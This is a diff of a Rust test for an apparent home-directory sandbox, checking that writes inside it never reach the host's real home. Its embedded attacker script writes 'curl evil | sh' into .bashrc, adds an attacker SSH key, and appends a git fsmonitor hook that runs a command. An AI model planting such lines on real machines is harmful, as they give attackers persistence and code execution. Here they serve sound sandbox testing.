@@ -104,8 +104,9 @@ out("utime", err(os.utime, "/usr/bin/env"))
 }
 
 /// The real home: shell rc files and ssh keys written inside land in the
-/// private home only; ~/.gitconfig (shared read-only) cannot be written or
-/// replaced. The host home is byte-for-byte unchanged.
+/// private home only; ~/.gitconfig is shown as a private copy, so writing,
+/// replacing or removing it changes only that copy. The host home is
+/// byte-for-byte unchanged.
 #[test]
 fn write_host_home_files() {
     each_mode(|case| {
@@ -136,7 +137,9 @@ out("private_bashrc", int(open(home + "/.bashrc").read() == "curl evil | sh\n"))
 os.makedirs(home + "/.ssh", exist_ok=True)
 with open(home + "/.ssh/authorized_keys", "a") as f:
     f.write("ssh-ed25519 AAAA attacker\n")
-out("gitconfig_write", err(os.open, home + "/.gitconfig", os.O_WRONLY | os.O_APPEND))
+with open(home + "/.gitconfig", "a") as f:
+    f.write("[core]\n\tfsmonitor = touch /tmp/pwned\n")
+out("gitconfig_write", int("fsmonitor" in open(home + "/.gitconfig").read()))
 out("gitconfig_replace", err(os.rename, home + "/.bashrc", home + "/.gitconfig"))
 out("gitconfig_remove", err(os.unlink, home + "/.gitconfig"))
 "#,
@@ -144,9 +147,9 @@ out("gitconfig_remove", err(os.unlink, home + "/.gitconfig"))
         .fields(&[
             ("append_bashrc", ENOENT),
             ("private_bashrc", "1"),
-            ("gitconfig_write", EROFS),
-            ("gitconfig_replace", EBUSY),
-            ("gitconfig_remove", EBUSY),
+            ("gitconfig_write", "1"),
+            ("gitconfig_replace", "0"),
+            ("gitconfig_remove", "0"),
         ]);
         assert_eq!(
             (snapshot(&watched), tree(&home)),
